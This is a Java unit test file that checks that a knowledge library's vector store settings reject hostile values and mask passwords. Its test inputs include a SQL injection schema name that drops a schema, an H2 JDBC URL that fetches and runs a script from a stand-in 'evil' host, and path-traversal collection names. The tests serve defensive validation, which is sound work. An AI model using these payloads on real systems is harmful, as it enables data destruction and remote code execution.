package dev.querent.knowledge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.querent.knowledge.chroma.ChromaVectorStoreProvider;
import dev.querent.knowledge.pgvector.PgVectorStoreProvider;
import dev.querent.llm.IdentifiedEmbeddingModel;
import dev.querent.llm.testing.UnusedEmbeddingModel;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Store settings name identifiers (schema, collection) and targets (URLs) that end up in SQL and in
 * request paths: hostile values are refused before anything is contacted, naming the setting.
 */
class VectorStoreSettingsAttackTest {
    private static final IdentifiedEmbeddingModel MODEL = new UnusedEmbeddingModel("onnx:BGE-small/v1.5");

    private static VectorStoreSettings settings(Map<String, String> options, String appUrl) {
        return new VectorStoreSettings(
                MODEL,
                () -> {
                    throw new AssertionError("no local files");
                },
                options,
                new VectorStoreSettings.Database(appUrl, "u", "p"));
    }

    @Test
    void pgvectorSchemasAreBareLowerCaseIdentifiers() {
        for (String bad : List.of(
                "kb; DROP SCHEMA public CASCADE", "kb\"", "public.kb", "KB", "kb--", "kb\nx", "1kb", "k".repeat(31))) {
            assertThatThrownBy(() -> new PgVectorStoreProvider()
                            .create(settings(Map.of("schema", bad, "url", "jdbc:postgresql://127.0.0.1:1/x"), "")))
                    .as(bad)
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining("querent.knowledge.pgvector.schema")
                    .hasMessageNotContaining("\n");
        }
    }

    @Test
    void pgvectorConnectsOnlyToPostgreSql() {
        assertThatThrownBy(() -> new PgVectorStoreProvider()
                        .create(settings(Map.of("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), "")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("querent.knowledge.pgvector.url must be a jdbc:postgresql: URL")
                .hasMessageNotContaining("evil");
        assertThatThrownBy(() -> new PgVectorStoreProvider().create(settings(Map.of(), "jdbc:sqlite:/tmp/q.db")))
                .isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("needs querent.knowledge.pgvector.url, or a PostgreSQL metadata store");
    }

    @Test
    void chromaCollectionsStayOnePathSegment() {
        for (String bad : List.of("../tenants", "a/b", "a?x=1", "a b", "-a", "a\u0000", "c".repeat(201))) {
            assertThatThrownBy(() -> new ChromaVectorStoreProvider()
                            .create(settings(Map.of("url", "http://127.0.0.1:1", "collection", bad), "")))
                    .as(bad)
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining("querent.knowledge.chroma.collection");
        }
    }

    @Test
    void optionsAreTrimmedAndSecretsNeverPrinted() {
        VectorStoreSettings s = settings(Map.of(" URL ", " http://x:1 ", "password", "hunter2", "blank", " "), "");

        assertThat(s.options()).containsOnly(Map.entry("url", "http://x:1"), Map.entry("password", "hunter2"));
        assertThat(s.toString()).doesNotContain("hunter2").contains("password=***");
        assertThat(s.applicationDatabase().toString()).doesNotContain("=p]").contains("password=***");
        assertThat(s.indexName()).isEqualTo("onnx_bge_small_v1_5");
    }
}
